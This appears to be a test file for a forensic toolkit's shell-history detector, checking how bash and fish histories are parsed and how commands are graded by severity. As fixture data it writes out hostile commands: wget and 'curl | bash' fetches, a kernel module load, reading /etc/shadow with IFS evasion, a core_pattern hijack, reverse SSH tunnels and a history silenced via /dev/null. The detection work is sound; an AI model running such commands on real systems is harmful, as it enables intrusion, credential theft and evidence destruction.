"""Shell histories: commands, times, and histories that were switched off."""

from __future__ import annotations

from forensic_toolkit.folding import folded
from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.rules import shell_histories
from tests.toolkit.fake_tree import Builder


def test_histories_and_silenced_histories() -> None:
    builder = Builder().add("/root/.bash_history", b"#1767323045\ninsmod /tmp/x.ko\nls\n")
    builder.add("/home/a/.bash_history", link="/dev/null")
    findings, events = shell_histories.examine(builder.tree(), coverage=Coverage())
    assert sorted(finding.technique or "" for finding in findings) == ["T1547.006", "T1690"]
    assert len(events) == 2


def test_what_administrators_type_every_day_accuses_nobody_alone() -> None:
    """Commands of a public system's own administrator, which were grave."""
    typed = """adduser admin
adduser admin sudo
usermod -aG sudo web
mv .ssh/authorized_hosts .ssh/authorized_keys
awk -F':' '{ print $1}' /etc/passwd
git rm -r --cached /var/log/
"""
    findings, _ = shell_histories.examine(
        Builder().add("/root/.bash_history", typed.encode()).tree(), coverage=Coverage()
    )
    assert {f.severity for f in findings} <= {"info", "low", "medium"}
    assert sorted(f.detail for f in findings if f.technique in ("T1098", "T1098.004")) == [
        "adduser admin sudo", "mv .ssh/authorized_hosts .ssh/authorized_keys", "usermod -aG sudo web",
    ]  # fmt: skip


def test_history_times() -> None:
    text = "#1767323045\nid\nuname -a\n: 1767323050:0;wget http://198.51.100.7/x\n\n"
    found = [(time.second if time else None, command) for time, command in shell_histories.commands(text)]
    assert found == [(5, "id"), (5, "uname -a"), (10, "wget http://198.51.100.7/x")]
    assert list(shell_histories.commands("id\n")) == [(None, "id")]


def test_fish_writes_the_time_below_the_command() -> None:
    """As fish 3 writes ~/.local/share/fish/fish_history (its own form, close to YAML)."""
    text = "- cmd: ls\n  when: 1795000000\n- cmd: for i in a\\n  curl $i | bash\\nend\n  when: 1795000060\n  paths:\n    - /x\n- cmd: id\n"
    found = list(shell_histories.commands(text))
    assert [(time.timestamp() if time else None, command.split("\n")[0]) for time, command in found] == [
        (1795000000.0, "ls"),
        (1795000060.0, "for i in a"),
        (None, "id"),
    ]


def test_an_administrators_history_of_a_public_ec2_host_is_not_grave() -> None:
    """Commands of its own administrators that were high: of TLS tunnels' settings, of histories, of folders and keys."""
    typed = """mkdir ../cats
chmod 700 ~/.ssh
vi /etc/stunnel/redis-client.conf
chmod 640 /etc/stunnel/private.pem
python -m SimpleHTTPServer 8000
cat /root/.bash_history | grep chown
gpg --version | sed -n 's/.*\\([0-9]*\\).*/x/p'
OLD_IFS="${IFS}"
sysctl -w kernel.core_pattern='|/usr/lib/systemd/systemd-coredump %P'
"""
    tree = Builder().add("/root/.bash_history", typed.encode()).tree()
    found, _ = shell_histories.examine(tree, coverage=Coverage())
    assert {item.severity for item in found} <= {"info", "low", "medium"}
    assert {item.detail for item in found if item.severity == "medium"} == {
        "python -m SimpleHTTPServer 8000", "cat /root/.bash_history | grep chown",
    }  # fmt: skip


def test_what_looks_like_these_and_is_not_stays_grave() -> None:
    typed = """mkdir '.. '
mkdir /tmp/...
sudo stunnel /tmp/out.conf
grep -i passw ~/.bash_history
echo '|/tmp/x' > /proc/sys/kernel/core_pattern
cat${IFS}/etc/shadow
"""
    tree = Builder().add("/root/.bash_history", typed.encode()).tree()
    found, _ = shell_histories.examine(tree, coverage=Coverage())
    assert {item.detail for item in found if item.severity in ("high", "critical")} == set(typed.splitlines())


def test_many_commands_of_one_kind_are_one_finding_that_has_them_all() -> None:
    typed = [f"ssh -R 80{number}:localhost:22 a@198.51.100.{number}" for number in range(8)]
    tree = Builder().add("/root/.bash_history", "\n".join(typed).encode()).tree()
    found, _ = shell_histories.examine(tree, coverage=Coverage())
    (whole,) = [item for item in folded(found) if item.technique == "T1572"]
    assert whole.count == 8 and whole.severity == "high" and whole.data["commands"] == typed
    assert all(command in whole.detail for command in typed)
